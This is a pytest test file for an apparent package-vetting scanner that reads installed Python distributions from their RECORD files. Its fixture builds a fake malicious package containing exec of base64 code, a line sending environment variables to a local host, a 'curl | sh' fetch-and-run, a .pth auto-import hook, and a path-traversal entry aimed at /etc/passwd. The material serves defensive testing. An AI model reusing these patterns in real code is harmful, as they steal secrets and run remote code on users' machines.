"""--installed: one result per distribution, read from RECORD inside the environment, nothing imported."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
from pathlib import Path

import pytest

from vetpy.acquire.installed import default_site_packages, distributions, open_installed
from vetpy.cli.main import main


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _install(site: Path, name: str, files: dict[str, bytes], extra_rows: tuple[str, ...] = ()) -> Path:
    """Lay out an installed distribution as an installer would (files, METADATA, RECORD)."""
    dist_info = site / f"{name}-1.0.dist-info"
    dist_info.mkdir(parents=True)
    (dist_info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for relative, data in files.items():
        target = Path(os.path.normpath(site / relative))
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        writer.writerow([relative, _record_hash(data), len(data)])
    for row in extra_rows:
        writer.writerow([row, "", ""])
    writer.writerow([f"{name}-1.0.dist-info/METADATA", "", ""])
    writer.writerow([f"{name}-1.0.dist-info/RECORD", "", ""])
    (dist_info / "RECORD").write_text(buffer.getvalue())
    return dist_info


@pytest.fixture
def site(tmp_path: Path) -> Path:
    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    canary = tmp_path / "canary.txt"
    payload = f"open({str(canary)!r}, 'w').write('ran')\n"
    blob = base64.b64encode(payload.encode()).decode()
    evil_code = (
        "import base64, os, subprocess, urllib.request\n"
        f"exec(base64.b64decode('{blob}'))\n"
        "urllib.request.urlopen('http://127.0.0.1:9/', data=str(os.environ).encode())\n"
        "subprocess.Popen(['sh', '-c', 'curl http://127.0.0.1:9/x | sh'])\n"
    ).encode()
    _install(site, "goodpkg", {"goodpkg/__init__.py": b'"""Add."""\n\ndef add(a, b):\n    return a + b\n'})
    _install(
        site,
        "evilpkg",
        {
            "evilpkg/__init__.py": evil_code,
            "evilpkg.pth": b"import evilpkg\n",
            "../../../bin/evil-tool": b"#!/bin/sh\nexec python -c 'import evilpkg'\n",
        },
        extra_rows=("../../../../../etc/passwd", "evilpkg/link.py"),
    )
    (site / "evilpkg" / "link.py").symlink_to("/etc/hostname")
    tampered = _install(site, "tampered", {"tampered/__init__.py": b"x = 1\n"})
    (site / "tampered" / "__init__.py").write_bytes(b"x = 2\n")
    norecord = site / "norecord-1.0.dist-info"
    norecord.mkdir()
    (norecord / "METADATA").write_text("Name: norecord\nVersion: 1.0\n")
    assert tampered.is_dir()
    return site


def test_each_distribution_is_read_from_its_record(site: Path) -> None:
    found = {d.label: d for d in distributions(site)}
    assert sorted(found) == ["evilpkg==1.0", "goodpkg==1.0", "norecord==1.0", "tampered==1.0"]
    evil = open_installed(found["evilpkg==1.0"])
    paths = {m.path for m in evil.members}
    assert {"evilpkg/__init__.py", "evilpkg.pth", "bin/evil-tool", "evilpkg-1.0.dist-info/METADATA"} <= paths
    assert not any("passwd" in p or "link.py" in p for p in paths)
    assert any("etc/passwd: outside the environment" in n for n in evil.notes)
    assert any("link.py: outside the environment (or a link out of it)" in n for n in evil.notes)
    tampered = open_installed(found["tampered==1.0"])
    assert any("differs from its RECORD hash" in n for n in tampered.notes)


def test_scan_installed_one_result_per_distribution(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["scan", "--no-config", "--installed", str(site), "--format", "json", "--model", "rules"])
    results = {r["target"]: r for r in json.loads(capsys.readouterr().out)["results"]}
    assert set(results) == {"evilpkg==1.0", "goodpkg==1.0", "norecord==1.0", "tampered==1.0"}
    assert results["evilpkg==1.0"]["verdict"] == "malicious" and code == 1
    assert results["goodpkg==1.0"]["verdict"] == "benign"
    assert results["goodpkg==1.0"]["filename"] == "goodpkg-1.0.dist-info"
    assert results["norecord==1.0"]["verdict"] == "error" and "no RECORD" in results["norecord==1.0"]["error"]
    assert not (tmp_path / "canary.txt").exists()  # read as data, never imported


def test_the_default_is_this_interpreters_site_packages() -> None:
    sites = default_site_packages()
    names = {d.name.lower() for site in sites if site.is_dir() for d in distributions(site)}
    assert {"pip", "pytest"} & names


def test_not_a_folder_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "--no-config", "--installed", str(tmp_path / "nope")]) == 2
    assert "not a folder" in capsys.readouterr().err
